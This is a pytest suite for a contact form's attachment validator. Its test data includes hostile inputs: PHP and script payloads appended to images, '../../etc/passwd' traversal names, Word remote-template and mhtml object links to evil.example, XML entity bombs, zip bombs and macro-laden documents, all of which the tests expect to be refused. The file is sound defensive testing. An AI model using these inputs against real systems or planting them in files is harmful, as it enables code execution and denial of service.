"""What is taken for a file of the contact form, and every trick that is not."""

import contextlib
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st

from patron.support import attachments
from patron.support.attachments import naming, refusals
from patron.support.attachments.refusals import Unacceptable
from tests.support import files
from tests.support.damage import Changes, damaged, mutations
from tests.support.files import EXCEL, EXE, PDF, WORD

WHOLE = [
    ("a.jpg", files.photo()),
    ("a.png", files.picture()),
    ("a.pdf", PDF),
    ("a.docx", files.office(parts={"word/_rels/a.xml.rels": b"<a><b Type='x'/></a>", "word/\u00e9.xml": b"<a/>" * 9})),
    ("a.xlsx", files.office(EXCEL, parts={"xl/embeddings/a.xlsx": files.office(EXCEL)})),
    ("a.doc", files.compound({"WordDocument": b"x"})),
    ("a.xls", files.compound({"Workbook": files.workbook()})),
]


def check(name: str, content: bytes) -> attachments.Attachment:
    upload = SimpleUploadedFile("x", content)
    upload._name = name  # what an upload handler would clean, so that our own cleaning is seen
    return attachments.check(upload)


def refusal(name: str, content: bytes) -> object:
    with pytest.raises(Unacceptable) as refused:
        check(name, content)
    return refused.value.text


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("bill.pdf", PDF, "application/pdf"),
        ("photo.JPG", files.picture("JPEG"), "image/jpeg"),
        ("photo.jpeg", files.picture("JPEG") + b"more of a phone's", "image/jpeg"),
        ("shot.png", files.picture(), "image/png"),
        ("letter.docx", files.office(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("sums.xlsx", files.office(EXCEL), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("letter.doc", files.compound({"WordDocument": b"x"}), "application/msword"),
        ("sums.xls", files.compound({"Workbook": files.workbook()}), "application/vnd.ms-excel"),
        (
            "chart.docx",
            files.office(parts={"word/embeddings/numbers.xlsx": files.office(EXCEL)}),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "from-a-browser.docx",
            files.office(("word/document2.xml", WORD[1])),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ],
)
def test_every_published_kind_is_taken(name: str, content: bytes, content_type: str) -> None:
    """By its ending in any letter case, with the type that the content has."""
    found = check(name, content)
    assert (found.content_type, found.content, found.name) == (content_type, content, name)


@pytest.mark.parametrize("name", ["bill.exe", "bill", "bill.pdf.exe", "bill.svg", "bill.docm", ".pdf.", "", "a.pdf/"])
def test_other_endings_are_refused(name: str) -> None:
    """Whatever stands before the last."""
    assert refusal(name, PDF) is refusals.NOT_ACCEPTED


@pytest.mark.parametrize("name", ["bill.exe.pdf", "bill.php.pdf", "a.b.JS .pdf", "bill.docm.pdf"])
def test_a_double_ending_is_refused(name: str) -> None:
    """Where the first one is run somewhere."""
    assert refusal(name, PDF) is refusals.NOT_ACCEPTED


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", EXE),
        ("a.png", EXE),
        ("a.jpg", EXE),
        ("a.doc", EXE),
        ("a.docx", EXE),
        ("a.jpg", files.picture("PNG")),
        ("a.png", files.picture("JPEG")),
        ("a.docx", files.office(EXCEL)),
        ("a.xlsx", files.office(WORD)),
        ("a.docx", files.packed({"a.txt": b"a"})),
        ("a.docx", files.office(EXCEL, more=f'<Override PartName="/word/absent.xml" ContentType="{WORD[1]}"/>')),
        ("a.xls", files.compound({"WordDocument": b"x"})),
        ("a.doc", files.compound({"Workbook": files.workbook()})),
        ("a.doc", files.compound({"WordDocument": b"x"})[:700]),
        ("a.png", files.picture()[:-20]),
        ("a.pdf", PDF[:-8]),
        ("a.docx", files.office()[:-30]),
        ("a.pdf", b" " + PDF),
        ("a.pdf", b"<html>" + PDF),
        ("a.pdf", b""),
    ],
)
def test_content_that_is_not_what_the_name_says_is_refused(name: str, content: bytes) -> None:
    """A renamed program, another kind, half a file."""
    assert refusal(name, content) is refusals.MISMATCH


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", PDF + files.packed({"a": b"a"})),
        ("a.jpg", files.picture("JPEG") + files.packed({"a": b"a"})),
        ("a.png", files.picture() + b"rest"),
        ("a.jpg", files.picture("JPEG") + b"<script>alert(1)</script>"),
        ("a.jpg", files.picture("JPEG") + b"<?php system('id') ?>"),
        ("a.docx", files.office() + PDF),
        ("a.docx", EXE + files.office()),
        ("a.docx", files.office()[:-2] + b"\x05\0hello"),
        ("a.jpg", files.picture("JPEG") + b"Rar!\x1a\x07\x01\0"),
        ("a.pdf", PDF[:-6] + b"7z\xbc\xaf\x27\x1c" + PDF[-6:]),
    ],
)
def test_a_file_that_is_two_at_once_is_refused(name: str, content: bytes) -> None:
    """Polyglots: a program would read the other one."""
    assert refusal(name, content) is refusals.MISMATCH


_MACRO_TYPE = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", files.office(parts={"word/vbaProject.bin": b"x"})),
        ("a.docx", files.office(parts={"word/x.bin": b"x"}, more=_MACRO_TYPE)),
        ("a.docx", files.office((WORD[0], "application/vnd.ms-word.document.macroEnabled.main+xml"))),
        ("a.xlsx", files.office(EXCEL, {"xl/macrosheets/sheet1.xml": b"x"})),
        ("a.docx", files.office(parts={"word/activeX/activeX1.bin": b"x"})),
        ("a.docx", files.office(parts={"word/media/x.png": EXE})),
        ("a.docx", files.office(parts={"word/embeddings/o.bin": files.compound({"\x01Ole10Native": EXE})})),
        (
            "a.docx",
            files.office(parts={"word/embeddings/x.xlsx": files.office(EXCEL, {"xl/vbaProject.bin": b"x"})}),
        ),
        ("a.doc", files.compound({"WordDocument": b"x"}, ("Macros", "VBA"))),
        ("a.xls", files.compound({"Workbook": files.workbook()}, ("_VBA_PROJECT_CUR",))),
        ("a.xls", files.compound({"Workbook": files.workbook(sheet_type=1)})),
    ],
)
def test_macros_and_programs_inside_are_refused(name: str, content: bytes) -> None:
    """By part, by declared type, in what is wrapped, in old documents, in sheets of Excel 4."""
    assert refusal(name, content) is refusals.MACROS


def relation(kind: str, target: str) -> bytes:
    """A document with one relation to what lies outside of it."""
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    line = f'<Relationship Id="r1" Type="{types}/{kind}" Target="{target}" TargetMode="External"/>'
    return files.office(parts={"word/_rels/settings.xml.rels": f"<Relationships>{line}</Relationships>".encode()})


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", r"\\evil.example\share\t.dotm"),
        ("attachedTemplate", "//evil.example/t.dotm"),
        ("AttachedTemplate", "file://evil.example/t.dotm"),
        ("attachedTemplate", r"file:///\\evil.example\t.dotm"),
        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
        ("frame", " http://evil.example/"),
    ],
)
def test_what_fetches_a_program_when_it_is_opened_is_refused(kind: str, target: str) -> None:
    """A template or an object from elsewhere brings its macros along."""
    assert refusal("a.docx", relation(kind, target)) is refusals.MACROS


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://shop.example/"),
        ("image", "https://shop.example/logo.png"),
        ("attachedTemplate", "file:///C:\\Users\\Ada\\Normal.dotm"),
        ("attachedTemplate", "C:/Templates/Letter.dotx"),
        ("attachedTemplate", "Letter.dotx"),
    ],
)
def test_links_and_local_templates_are_taken(kind: str, target: str) -> None:
    """As in documents of every office."""
    assert check("a.docx", relation(kind, target)).name == "a.docx"


def test_relations_that_cannot_be_read_are_refused() -> None:
    """No XML, entities, more than anybody has, and an encoding of no letters or of nobody's."""
    encoded = (b'<?xml version="1.0" encoding="%b"?><x/>' % name for name in (b"zlib", b"rot13", b"of-nobody"))
    for raw in (b"<", b"<!DOCTYPE x><x/>", b"<x>" + b" " * 1_000_000 + b"</x>", *encoded):
        assert refusal("a.docx", files.office(parts={"word/_rels/a.xml.rels": raw})) is refusals.MISMATCH


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.xls", files.compound({"Workbook": files.workbook(is_locked=True)})),
        ("a.docx", files.compound({"EncryptedPackage": b"x"})),
        ("a.doc", files.compound({"EncryptedPackage": b"x"})),
    ],
)
def test_what_cannot_be_looked_into_is_refused(name: str, content: bytes) -> None:
    """A password would hide everything above."""
    assert refusal(name, content) is refusals.LOCKED


def test_pixels_are_counted_before_they_are_drawn() -> None:
    """50,000 x 50,000 in a hundred bytes; what the library would only warn of; and fewer than that."""
    for side in (50_000, 10_000, 8_000):
        assert refusal("a.png", files.huge_png(side)) is refusals.TOO_MANY_PIXELS


def test_a_zip_bomb_is_refused_by_what_it_declares() -> None:
    """A thousand to one."""
    assert refusal("a.docx", files.office(parts={"word/a.xml": b"\0" * 101_000_000})) is refusals.BOMB


def test_a_zip_bomb_that_lies_is_stopped_while_it_unpacks() -> None:
    """The declared size is small: what comes out is cut there, and the checksum is another."""
    honest = files.office(parts={"word/a.xml": b"\0" * 50_000_000})
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        size = archive.getinfo("word/a.xml").file_size.to_bytes(4, "little")
    assert refusal("a.docx", honest.replace(size, (10).to_bytes(4, "little"))) is refusals.MISMATCH


def test_a_bomb_in_a_document_in_a_document_counts_too(monkeypatch: pytest.MonkeyPatch) -> None:
    """One budget for all that is packed in a file."""
    monkeypatch.setattr("patron.support.attachments.office.MAX_UNPACKED", 3000)
    inner = files.office(EXCEL, {"xl/a.xml": b"\0" * 2500})
    assert refusal("a.docx", files.office(parts={"word/embeddings/a.xlsx": inner})) is refusals.BOMB


@pytest.mark.parametrize(
    "parts",
    [
        {"../../etc/passwd": b"x"},
        {"/etc/passwd": b"x"},
        {"C:/x.xml": b"x"},
        {"word\\..\\x.xml": b"x"},
        {"word/a\nb.xml": b"x"},
        {"word/A.xml": b"x", "word/a.xml": b"y"},
    ],
)
def test_parts_that_leave_their_folder_or_hide_another_are_refused(parts: dict[str, bytes]) -> None:
    """Also two names that are one on some disks."""
    assert refusal("a.docx", files.office(parts=parts)) is refusals.MISMATCH


def test_links_passwords_and_entities_in_an_archive_are_refused() -> None:
    """A symbolic link; an encrypted entry; a document type in the list of parts."""
    main = {"[Content_Types].xml": b"<Types/>", WORD[0]: b"x"}
    assert refusal("a.docx", files.packed(main, external_attr=0xA1FF << 16)) is refusals.MISMATCH
    locked = bytearray(files.office())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + at] |= 1
    assert refusal("a.docx", bytes(locked)) is refusals.LOCKED
    bomb = b'<!DOCTYPE a [<!ENTITY a "aaaa">]><Types>&a;</Types>'
    assert refusal("a.docx", files.packed({"[Content_Types].xml": bomb, WORD[0]: b"x"})) is refusals.MISMATCH


def test_a_name_in_another_encoding_than_it_says_is_refused() -> None:
    """In the directory, and in the entry alone, which is read when the part is opened."""
    whole = files.office(parts={"word/\u00e9.xml": b"<a/>"})
    name = "word/\u00e9".encode()
    for broken in (whole.replace(name, b"word/\xff\xff"), whole.replace(name, b"word/\xff\xff", 1)):
        assert refusal("a.docx", broken) is refusals.MISMATCH


def test_a_version_nobody_knows_is_refused() -> None:
    """An entry that asks for a reader of version 9.9."""
    entry = bytearray(files.office())
    entry[entry.index(b"PK\x01\x02") + 6] = 99
    assert refusal("a.docx", bytes(entry)) is refusals.MISMATCH


@settings(deadline=None)
@given(st.sampled_from(WHOLE), mutations())
def test_whatever_happened_to_a_file_it_is_taken_or_refused(whole: tuple[str, bytes], changes: Changes) -> None:
    """Bytes changed, lost and put in: nothing but a refusal comes out of the libraries that read it."""
    name, content = whole
    with contextlib.suppress(Unacceptable):
        assert check(name, damaged(content, changes)).content_type == check(name, content).content_type


def test_overlapping_entries_are_refused() -> None:
    """Two names for one packed part: a bomb that needs no ratio."""
    raw = bytearray(files.office(parts={"word/a.xml": b"a", "word/b.xml": b"a"}))
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        offset = archive.getinfo("word/a.xml").header_offset
    last = raw.rindex(b"PK\x01\x02")
    raw[last + 42 : last + 46] = offset.to_bytes(4, "little")
    assert refusal("a.docx", bytes(raw)) is refusals.MISMATCH


def test_a_loop_in_an_old_document_ends() -> None:
    """The chain of the directory leads back into itself."""
    raw = bytearray(files.compound({"WordDocument": b"x"}))
    fat = int.from_bytes(raw[76:80], "little")
    directory = int.from_bytes(raw[48:52], "little")
    place = (fat + 1) * 512 + directory * 4
    raw[place : place + 4] = directory.to_bytes(4, "little")
    assert refusal("a.doc", bytes(raw)) is refusals.MISMATCH


def test_more_than_ten_megabytes_are_refused() -> None:
    """By the size that arrived."""
    assert refusal("a.pdf", PDF + b" " * 10_000_000) is refusals.TOO_LARGE


@pytest.mark.parametrize(
    ("raw", "cleaned"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\bill.PDF", "bill.PDF"),
        ("bi\r\nll\x00\x07.pdf", "bill.pdf"),
        ("bill\u202efdp.pdf", "billfdp.pdf"),
        ('a<b>"c|d?.pdf', "a_b__c_d_.pdf"),
        ("  . ..bill .  .pdf", "bill.pdf"),
        ("...pdf", "pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("فاتورة 12.03.2024.pdf", "فاتورة 12.03.2024.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_names_are_cleaned(raw: str, cleaned: str) -> None:
    """No folder, no control, no mark that turns the direction; the ending stays."""
    assert naming.cleaned(raw)[0] == cleaned
